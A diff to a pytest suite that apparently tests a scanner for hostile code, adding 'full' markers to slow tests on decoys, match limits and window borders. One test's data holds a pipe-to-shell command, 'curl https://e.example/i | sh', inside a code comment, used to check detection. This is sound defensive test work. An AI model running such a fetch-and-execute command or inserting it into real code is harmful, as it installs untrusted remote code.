@@ -85,6 +85,7 @@ def hostile(text: str, size: int) -> None:
     assert all(any(each in gap for each in allowed) for gap in verdict.gap_texts), verdict.gap_texts
 
 
+@pytest.mark.full
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
 def test_a_text_that_is_hard_on_patterns_is_read_to_its_end(text: str) -> None:
     hostile(text, MIB // 16)
@@ -112,6 +113,7 @@ def test_thousands_of_decoys_hide_no_finding() -> None:
     assert verdict.gap_texts == ()
 
 
+@pytest.mark.full
 @pytest.mark.parametrize(
     ("name", "decoy", "check"),
     [
@@ -130,6 +132,7 @@ def test_too_many_matches_are_a_gap_whatever_is_found(
     assert "invisible-payload" in {finding.rule for finding in verdict.findings}
 
 
+@pytest.mark.full
 def test_too_many_matches_without_a_rule_are_no_gap() -> None:
     """What can be done is held against nobody; and of what is found nothing can be worse."""
     assert analyse({"x.js": '"https://a\n' * 50_001}).gap_texts == ()
@@ -195,6 +198,7 @@ _BEFORE = {
 }  # fmt: skip
 
 
+@pytest.mark.full
 @pytest.mark.parametrize("parts", _BEFORE.values(), ids=_BEFORE)
 @pytest.mark.parametrize("cut", [-1, 0, 1])
 def test_the_border_of_a_window_hides_no_context_before_it(
@@ -207,6 +211,7 @@ def test_the_border_of_a_window_hides_no_context_before_it(
     assert finding.line == 2
 
 
+@pytest.mark.full
 def test_the_border_of_a_window_does_not_make_code_of_a_comment() -> None:
     line = "// " + "curl https://e.example/i | sh; "
     lines = (line + "\n") * (_BORDER // len(line))
